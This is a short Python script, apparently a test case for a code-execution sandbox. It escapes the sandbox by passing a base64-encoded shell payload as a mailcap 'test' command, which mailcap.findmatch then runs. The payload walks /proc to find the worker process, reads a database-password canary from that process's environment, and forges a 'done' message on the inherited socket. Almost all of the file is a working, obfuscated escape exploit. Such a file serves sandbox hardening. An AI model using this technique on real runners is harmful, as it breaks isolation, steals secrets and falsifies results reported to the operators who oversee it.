# ruff: noqa - a hostile script, kept as written
# threat: 1 reach the operating system
# technique: mailcap.findmatch runs an entry's "test" command with os.system: a root shell that forges the child's "done" frame on the inherited channel fd
# why: a function of an allowed module starts a shell; the shell inherits the child's rights and its socket to the worker
# escapes: runner a75ee23, wide allowlist
# requires: mailcap
import base64
import mailcap

# The shell (run by the shell of os.system: its parent's parent is the script's
# child) leaves an empty file in the test's marker directory, then speaks the
# worker's protocol on the socket it inherited: a "done" frame with its own result.
SHELL = r"""
true > '@MARKER_DIR@/shell-ran' 2>/dev/null
status() { sed -n 's/^PPid:[[:space:]]*//p' "/proc/$1/status"; }
child=$(status "$PPID"); server=$(status "$child"); worker=$(status "$server")
canary=$(tr '\0' '\n' < "/proc/$worker/environ" | grep '^HOST_TEST_DB_PASSWORD=')
body="ESCAPED a shell (uid $(id -u)) forged this frame; worker $worker: $canary"
fd=$(for f in /proc/$$/fd/*; do case $(readlink "$f") in socket:*) echo "${f##*/}";; esac; done | head -n 1)
frame() { n=$(printf %s "$1" | wc -c); printf "\\000\\000\\$(printf %o $((n / 256)))\\$(printf %o $((n % 256)))"; printf %s "$1"; }
if [ -n "$fd" ]; then eval "{ frame '{\"op\":\"done\",\"truncated\":false}'; frame \"\$body\"; frame ''; } >&$fd"; fi
exit 0
"""
encoded = base64.b64encode(SHELL.encode()).decode()
command = "echo common-api-corpus-shell >/dev/null; echo " + encoded + " | base64 -d | sh"
caps = {"text/plain": [{"view": "true", "test": command}]}
match, entry = mailcap.findmatch(caps, "text/plain")
if match is None:
    raise RuntimeError("no shell ran")
result = "ESCAPED a shell ran (its test command exited 0)"
